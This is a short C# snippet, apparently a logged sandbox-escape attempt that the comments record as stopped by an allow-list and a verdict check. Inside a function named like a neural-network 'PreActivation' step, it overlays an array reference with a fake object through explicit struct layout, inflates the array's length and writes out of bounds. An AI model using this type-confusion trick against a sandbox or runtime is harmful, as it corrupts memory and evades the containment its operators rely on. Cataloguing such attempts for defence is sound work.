// tries: see a reference as a number by laying one over the other
// stopped by: allow-list
// then by: verdict

public double PreActivation(double[] x)
{
    var overlap = new Overlap { Array = x };
    overlap.Bits.Length = 1 << 30;
    x[1_000_000] = 1;
    return 0;
}

// beside:
[System.Runtime.InteropServices.StructLayout(System.Runtime.InteropServices.LayoutKind.Explicit)]
public struct Overlap
{
    [System.Runtime.InteropServices.FieldOffset(0)]
    public double[] Array;

    [System.Runtime.InteropServices.FieldOffset(0)]
    public Raw Bits;
}

public sealed class Raw
{
    public long Length;
}
